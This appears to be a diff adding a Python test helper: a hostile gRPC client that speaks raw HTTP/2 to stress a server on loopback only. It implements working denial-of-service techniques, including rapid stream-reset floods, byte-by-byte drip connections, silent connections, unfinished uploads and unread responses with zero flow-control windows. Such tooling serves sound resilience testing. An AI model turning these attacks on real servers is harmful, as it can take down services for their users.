@@ -1,0 +1,500 @@
+"""A gRPC client that does not follow the rules that protect a server.
+
+It speaks HTTP/2 frames over a plain socket. It can leave answers unread, requests unfinished, reset calls as fast as
+it opens them, or say nothing at all. It never waits for the server's MAX_CONCURRENT_STREAMS: what a server refuses is
+counted in `Seen`. It connects to loopback addresses only.
+
+A `HostilePeer` is one connection. The functions below it are whole attacks, each bounded in calls and in seconds.
+"""
+
+from __future__ import annotations
+
+import asyncio
+import contextlib
+import enum
+import ipaddress
+import select
+import socket
+import struct
+import time
+from collections import Counter, defaultdict
+from collections.abc import AsyncGenerator, Callable, Coroutine
+from dataclasses import dataclass, field
+from typing import Any, TypeVar
+
+from h2.errors import ErrorCodes
+from h2.settings import SettingCodes
+from hpack import Decoder, Encoder
+from hyperframe.frame import (
+    ContinuationFrame,
+    DataFrame,
+    Frame,
+    GoAwayFrame,
+    HeadersFrame,
+    PingFrame,
+    RstStreamFrame,
+    SettingsFrame,
+    WindowUpdateFrame,
+)
+
+_MAGIC = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
+_HEADER_BYTES = 9
+_READ_BYTES = 1 << 16
+# The smallest MAX_FRAME_SIZE that a server may announce (RFC 9113, section 4.2).
+_DATA_BYTES_MAX = 16_384
+# The window of a new connection, and of a stream until SETTINGS say otherwise (RFC 9113, section 6.9.2).
+DEFAULT_WINDOW_BYTES = 65_535
+# How often a peer that does not read looks whether its connection still stands.
+_LOOK_S = 0.1
+
+
+class Silence(enum.Enum):
+    """How much a silent connection says before it says nothing more."""
+
+    CONNECTED = "connected"
+    MAGIC = "magic"
+    # The whole connection preface: the magic and SETTINGS. The server's pings stay unanswered.
+    PREFACE = "preface"
+
+
+@dataclass(frozen=True, slots=True, kw_only=True)
+class GoAway:
+    error: ErrorCodes | int
+    last_stream: int
+    text: str
+
+
+@dataclass(slots=True, kw_only=True)
+class Seen:
+    """What a server showed one connection. A peer that does not read sees only that its connection was closed."""
+
+    # What the server announced, such as MAX_CONCURRENT_STREAMS.
+    settings: dict[SettingCodes | int, int] = field(default_factory=dict[SettingCodes | int, int])
+    # Calls by the grpc-status they ended with.
+    statuses: Counter[int] = field(default_factory=Counter[int])
+    # Calls that the server reset, by error.
+    resets: Counter[ErrorCodes | int] = field(default_factory=Counter[ErrorCodes | int])
+    # Calls that have got response headers and no end yet.
+    answering: set[int] = field(default_factory=set[int])
+    goaway: GoAway | None = None
+    # Seconds from the connection to its end by the server; None: the server did not end it.
+    closed_after_s: float | None = None
+    calls_sent: int = 0
+    request_bytes_sent: int = 0
+    # Bytes of DATA received.
+    answer_bytes: int = 0
+    # How long the connection was used, in seconds.
+    lasted_s: float = 0.0
+
+
+class HostilePeer:
+    """One connection, made by `open_peer`. It answers SETTINGS and PING as long as it reads, so that the server has no
+    other reason to end it, and it never sends WINDOW_UPDATE."""
+
+    def __init__(self, connection: socket.socket, authority: str, *, reads: bool) -> None:
+        self.seen = Seen()
+        self._socket = connection
+        self._authority = authority
+        self._loop = asyncio.get_running_loop()
+        self._began_s = time.monotonic()
+        self._encoder = Encoder()
+        self._decoder = Decoder()
+        self._writing = asyncio.Lock()
+        self._changed = asyncio.Condition()
+        # What this peer may send, as the server grants it: by stream, and 0 for the connection.
+        self._granted: defaultdict[int, int] = defaultdict(int, {0: DEFAULT_WINDOW_BYTES})
+        self._initial_window_bytes = DEFAULT_WINDOW_BYTES
+        self._next_stream = 1
+        self._pongs = 0
+        # Streams that the server has ended or reset.
+        self._ended: set[int] = set()
+        # Frames that the reader owes the server. They wait here for the writer, which may be stuck.
+        self._answers: set[asyncio.Task[None]] = set()
+        # A header block that has not ended yet, with its frame.
+        self._open_block: tuple[HeadersFrame, bytearray] | None = None
+        self._watcher = asyncio.create_task(self._read() if reads else self._watch())
+
+    @property
+    def closed(self) -> bool:
+        return self.seen.closed_after_s is not None
+
+    async def greet(self, *, window_bytes: int) -> None:
+        """Sends the connection preface. The server may then send `window_bytes` of each answer."""
+        settings = SettingsFrame(settings={SettingCodes.ENABLE_PUSH: 0, SettingCodes.INITIAL_WINDOW_SIZE: window_bytes})
+        await self.write(_MAGIC + settings.serialize())
+
+    async def call(self, path: str, message: bytes, *, ends: bool = True) -> int:
+        """Sends one call and answers with its stream. `ends` False leaves the request open, as a stream does."""
+        stream = await self._open(path)
+        await self._send(stream, _prefix(len(message)) + message, ends=ends)
+        return stream
+
+    async def begin(self, path: str, size_bytes: int, *, withheld_bytes: int = 1) -> int:
+        """Announces a request of so many bytes and sends all but the last ones, as the server's windows allow."""
+        stream = await self._open(path)
+        await self._send(stream, _prefix(size_bytes) + bytes(size_bytes - withheld_bytes), ends=False)
+        return stream
+
+    async def reset(self, path: str, *, count: int, batch: int = 1_000) -> None:
+        """Opens calls and resets each at once: HEADERS and RST_STREAM, `batch` of them in one write."""
+        # The first block fills the server's HPACK table; all later blocks only point into it, and are equal.
+        first = self._encoder.encode(self._headers(path))
+        block = self._encoder.encode(self._headers(path))
+        end = struct.pack(">HBBB", 0, 4, RstStreamFrame.type or 0, 0)
+        cancelled = struct.pack(">L", ErrorCodes.CANCEL)
+        blocks = [first, *[block] * (count - 1)]
+        for start in range(0, count, batch):
+            frames = bytearray()
+            for one in blocks[start : start + batch]:
+                stream = struct.pack(">L", self._take_stream())
+                # END_HEADERS is 0x4.
+                frames += struct.pack(">HBBB", len(one) >> 8, len(one) & 0xFF, HeadersFrame.type or 0, 4) + stream + one
+                frames += end + stream + cancelled
+            await self.write(bytes(frames))
+
+    async def heard(self) -> None:
+        """Waits until the server has taken in everything that was sent: it answers a PING that comes after it. Ends
+        early when the server closes the connection."""
+        awaited = self._pongs + 1
+        await self.write(PingFrame(opaque_data=b"heard?  ").serialize())
+        async with self._changed:
+            await self._changed.wait_for(lambda: self.closed or self._pongs >= awaited)
+
+    async def write(self, data: bytes) -> None:
+        """Sends bytes as they are. Raises ConnectionError when the server has closed the connection."""
+        async with self._writing:
+            await self._put(data)
+
+    async def until(self, holds: Callable[[Seen], object], *, within_s: float) -> None:
+        """Waits until what has been seen fulfils a condition. Raises TimeoutError."""
+        async with asyncio.timeout(within_s), self._changed:
+            await self._changed.wait_for(lambda: holds(self.seen))
+
+    async def end(self) -> None:
+        """Ends the connection without a word."""
+        tasks = {self._watcher, *self._answers}
+        for task in tasks:
+            task.cancel()
+        await asyncio.wait(tasks)
+        self._socket.close()
+        self.seen.lasted_s = time.monotonic() - self._began_s
+
+    async def _open(self, path: str) -> int:
+        # A block is encoded and sent under one lock: the HPACK table changes in the order of the blocks.
+        async with self._writing:
+            stream = self._take_stream()
+            self._granted[stream] += self._initial_window_bytes
+            frame = HeadersFrame(stream, self._encoder.encode(self._headers(path)), flags=["END_HEADERS"])
+            await self._put(frame.serialize())
+        return stream
+
+    async def _put(self, data: bytes) -> None:
+        """Sends bytes under the lock that the caller holds."""
+        try:
+            await self._loop.sock_sendall(self._socket, data)
+        except OSError:
+            await self._close()
+            raise
+
+    async def _send(self, stream: int, body: bytes, *, ends: bool) -> None:
+        """Sends a body as the windows allow, or as much of it as the server takes before it ends the call."""
+        view = memoryview(body)
+        while view:
+            async with self._changed:
+                await self._changed.wait_for(
+                    lambda: self.closed or stream in self._ended or min(self._granted[0], self._granted[stream]) > 0
+                )
+            if self.closed or stream in self._ended:
+                return
+            size = min(len(view), _DATA_BYTES_MAX, self._granted[0], self._granted[stream])
+            frame = DataFrame(stream, view[:size].tobytes(), flags=["END_STREAM"] if ends and size == len(view) else ())
+            view = view[size:]
+            self._granted[0] -= size
+            self._granted[stream] -= size
+            await self.write(frame.serialize())
+            self.seen.request_bytes_sent += size
+
+    def _take_stream(self) -> int:
+        stream = self._next_stream
+        self._next_stream += 2
+        self.seen.calls_sent += 1
+        return stream
+
+    def _headers(self, path: str) -> list[tuple[str, str]]:
+        return [
+            (":method", "POST"),
+            (":scheme", "http"),
+            (":path", path),
+            (":authority", self._authority),
+            ("te", "trailers"),
+            ("content-type", "application/grpc"),
+        ]
+
+    async def _read(self) -> None:
+        """Takes in frames until the connection ends."""
+        data = bytearray()
+        try:
+            while chunk := await self._loop.sock_recv(self._socket, _READ_BYTES):
+                data += chunk
+                while len(data) >= _HEADER_BYTES:
+                    frame, length = Frame.parse_frame_header(memoryview(bytes(data[:_HEADER_BYTES])))
+                    if len(data) < _HEADER_BYTES + length:
+                        break
+                    frame.parse_body(memoryview(bytes(data[_HEADER_BYTES : _HEADER_BYTES + length])))
+                    del data[: _HEADER_BYTES + length]
+                    self._take(frame)
+                async with self._changed:
+                    self._changed.notify_all()
+        except OSError:
+            pass
+        await self._close()
+
+    async def _watch(self) -> None:
+        """Reads nothing, and notices a connection that the server has reset."""
+        poll = select.poll()
+        poll.register(self._socket, select.POLLRDHUP)
+        while not poll.poll(0):  # noqa: ASYNC110 - asyncio can only wait for data, and data stays unread here
+            await asyncio.sleep(_LOOK_S)
+        await self._close()
+
+    async def _close(self) -> None:
+        if not self.closed:
+            self.seen.closed_after_s = time.monotonic() - self._began_s
+        async with self._changed:
+            self._changed.notify_all()
+
+    def _take(self, frame: Frame) -> None:
+        seen = self.seen
+        match frame:
+            case SettingsFrame() if "ACK" not in frame.flags:
+                seen.settings |= {_known(SettingCodes, code): value for code, value in frame.settings.items()}
+                initial = frame.settings.get(SettingCodes.INITIAL_WINDOW_SIZE, self._initial_window_bytes)
+                for stream in self._granted.keys() - {0}:
+                    self._granted[stream] += initial - self._initial_window_bytes
+                self._initial_window_bytes = initial
+                self._answer(SettingsFrame(flags=["ACK"]))
+            case PingFrame() if "ACK" in frame.flags:
+                self._pongs += 1
+            case PingFrame():
+                self._answer(PingFrame(opaque_data=frame.opaque_data, flags=["ACK"]))
+            case WindowUpdateFrame():
+                self._granted[frame.stream_id] += frame.window_increment
+            case HeadersFrame():
+                self._open_block = frame, bytearray(frame.data)
+                self._take_block("END_HEADERS" in frame.flags)
+            case ContinuationFrame() if self._open_block is not None:
+                self._open_block[1].extend(frame.data)
+                self._take_block("END_HEADERS" in frame.flags)
+            case DataFrame():
+                seen.answer_bytes += len(frame.data)
+                if "END_STREAM" in frame.flags:
+                    self._end_stream(frame.stream_id)
+            case RstStreamFrame():
+                self._end_stream(frame.stream_id)
+                seen.resets[_known(ErrorCodes, frame.error_code)] += 1
+            case GoAwayFrame():
+                error = _known(ErrorCodes, frame.error_code)
+                text = frame.additional_data.decode(errors="replace")
+                seen.goaway = GoAway(error=error, last_stream=frame.last_stream_id, text=text)
+            case _:
+                pass
+
+    def _take_block(self, whole: bool) -> None:
+        if not whole or self._open_block is None:
+            return
+        (frame, block), self._open_block = self._open_block, None
+        status = dict(self._decoder.decode(bytes(block), raw=True)).get(b"grpc-status")
+        if status is not None:
+            self.seen.statuses[int(status)] += 1
+        if "END_STREAM" in frame.flags:
+            self._end_stream(frame.stream_id)
+        else:
+            self.seen.answering.add(frame.stream_id)
+
+    def _end_stream(self, stream: int) -> None:
+        self._ended.add(stream)
+        self.seen.answering.discard(stream)
+
+    def _answer(self, frame: Frame) -> None:
+        async def write() -> None:
+            with contextlib.suppress(OSError):
+                await self.write(frame.serialize())
+
+        task = asyncio.create_task(write())
+        self._answers.add(task)
+        task.add_done_callback(self._answers.discard)
+
+
+@contextlib.asynccontextmanager
+async def connect(
+    address: str, *, reads: bool = True, receive_buffer_bytes: int | None = None
+) -> AsyncGenerator[HostilePeer, None]:
+    """A connection on which nothing has been said yet. Raises ValueError when the address is not a loopback one."""
+    host, _, port = address.rpartition(":")
+    if not ipaddress.ip_address(host.strip("[]")).is_loopback:
+        raise ValueError(f"{address} is not a loopback address: attacks are for servers on this machine only")
+    family = socket.AF_INET6 if host.startswith("[") else socket.AF_INET
+    with socket.socket(family, socket.SOCK_STREAM) as connection:
+        connection.setblocking(False)
+        connection.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
+        if receive_buffer_bytes is not None:
+            connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_buffer_bytes)
+        await asyncio.get_running_loop().sock_connect(connection, (host.strip("[]"), int(port)))
+        peer = HostilePeer(connection, address, reads=reads)
+        try:
+            yield peer
+        finally:
+            await peer.end()
+
+
+@contextlib.asynccontextmanager
+async def open_peer(
+    address: str, *, window_bytes: int = 0, reads: bool = True, receive_buffer_bytes: int | None = None
+) -> AsyncGenerator[HostilePeer, None]:
+    """A connection that has sent its preface. With `reads` False everything that the server sends stays in the socket;
+    `receive_buffer_bytes` keeps the socket's buffer small."""
+    async with connect(address, reads=reads, receive_buffer_bytes=receive_buffer_bytes) as peer:
+        await peer.greet(window_bytes=window_bytes)
+        yield peer
+
+
+async def leave_answers_unread(
+    address: str,
+    path: str,
+    message: bytes,
+    *,
+    calls: int,
+    connections: int = 1,
+    seconds: float,
+    window_bytes: int = 0,
+    reads: bool = True,
+    ends: bool = True,
+) -> list[Seen]:
+    """Makes so many calls, dealt out over the connections, and stays for `seconds` without reading an answer.
+
+    With `ends` False the requests stay open: this is the form for Consume, where `message` is its first ConsumeRequest.
+    """
+
+    async def attack(peer: HostilePeer, share: int) -> None:
+        for _ in range(share):
+            await peer.call(path, message, ends=ends)
+
+    shares = _shares(calls, connections)
+    return await asyncio.gather(
+        *(_attack(open_peer(address, window_bytes=window_bytes, reads=reads), attack, n, seconds) for n in shares)
+    )
+
+
+async def leave_requests_unfinished(
+    address: str,
+    path: str,
+    *,
+    size_bytes: int,
+    calls: int,
+    connections: int = 1,
+    seconds: float,
+    withheld_bytes: int = 1,
+) -> list[Seen]:
+    """Begins so many requests of `size_bytes` each, and stays for `seconds` without sending the last bytes of any."""
+
+    async def begin(peer: HostilePeer) -> None:
+        with contextlib.suppress(OSError):
+            await peer.begin(path, size_bytes, withheld_bytes=withheld_bytes)
+
+    async def attack(peer: HostilePeer, share: int) -> None:
+        async with asyncio.TaskGroup() as group:
+            for _ in range(share):
+                group.create_task(begin(peer))
+
+    shares = _shares(calls, connections)
+    return await asyncio.gather(
+        *(_attack(open_peer(address, window_bytes=DEFAULT_WINDOW_BYTES), attack, n, seconds) for n in shares)
+    )
+
+
+async def reset_rapidly(address: str, path: str, *, count: int, connections: int = 1, seconds: float) -> list[Seen]:
+    """Opens `count` calls on each connection and resets each at once, as fast as the sockets take it. `lasted_s` tells
+    how long it took until the server had read them all, at most `seconds`."""
+
+    async def attack(peer: HostilePeer, share: int) -> None:
+        await peer.reset(path, count=share)
+        await peer.heard()
+
+    return await asyncio.gather(
+        *(
+            _attack(open_peer(address, window_bytes=DEFAULT_WINDOW_BYTES), attack, count, seconds, stays=False)
+            for _ in range(connections)
+        )
+    )
+
+
+async def say_nothing(address: str, silence: Silence, *, connections: int, seconds: float) -> list[Seen]:
+    """Opens connections that fall silent, and stays for `seconds`."""
+
+    async def attack(peer: HostilePeer, _share: int) -> None:
+        match silence:
+            case Silence.CONNECTED:
+                pass
+            case Silence.MAGIC:
+                await peer.write(_MAGIC)
+            case Silence.PREFACE:
+                await peer.greet(window_bytes=0)
+
+    return await asyncio.gather(
+        *(_attack(connect(address, reads=False), attack, 0, seconds) for _ in range(connections))
+    )
+
+
+async def drip(address: str, path: str, *, connections: int, seconds: float, every_s: float = 1.0) -> list[Seen]:
+    """Opens connections that send the preface and the beginning of a call, one byte every `every_s`."""
+    settings = SettingsFrame(settings={SettingCodes.ENABLE_PUSH: 0})
+    headers = [(":method", "POST"), (":scheme", "http"), (":path", path), (":authority", address)]
+    call = HeadersFrame(1, Encoder().encode([*headers, ("content-type", "application/grpc")]), flags=["END_HEADERS"])
+    said = _MAGIC + settings.serialize() + call.serialize()
+
+    async def attack(peer: HostilePeer, _share: int) -> None:
+        for at in range(len(said)):
+            await peer.write(said[at : at + 1])
+            await asyncio.sleep(every_s)
+
+    return await asyncio.gather(
+        *(_attack(connect(address, reads=False), attack, 0, seconds) for _ in range(connections))
+    )
+
+
+async def _attack(
+    opening: contextlib.AbstractAsyncContextManager[HostilePeer],
+    attack: Callable[[HostilePeer, int], Coroutine[Any, Any, None]],
+    share: int,
+    seconds: float,
+    *,
+    stays: bool = True,
+) -> Seen:
+    """Runs an attack on one connection for `seconds`, or until the server closes it."""
+    async with opening as peer:
+        with contextlib.suppress(TimeoutError, OSError):
+            async with asyncio.timeout(seconds):
+                await attack(peer, share)
+                if stays:
+                    await peer.until(lambda _: peer.closed, within_s=seconds)
+        return peer.seen
+
+
+def _prefix(size_bytes: int) -> bytes:
+    """What a gRPC message begins with: not compressed, and its length."""
+    return struct.pack(">BL", 0, size_bytes)
+
+
+def _shares(count: int, ways: int) -> list[int]:
+    """Deals a count out as evenly as it goes."""
+    return [count // ways + (at < count % ways) for at in range(ways)]
+
+
+_Code = TypeVar("_Code", ErrorCodes, SettingCodes)
+
+
+def _known(codes: type[_Code], code: int) -> _Code | int:
+    try:
+        return codes(code)
+    except ValueError:
+        return code
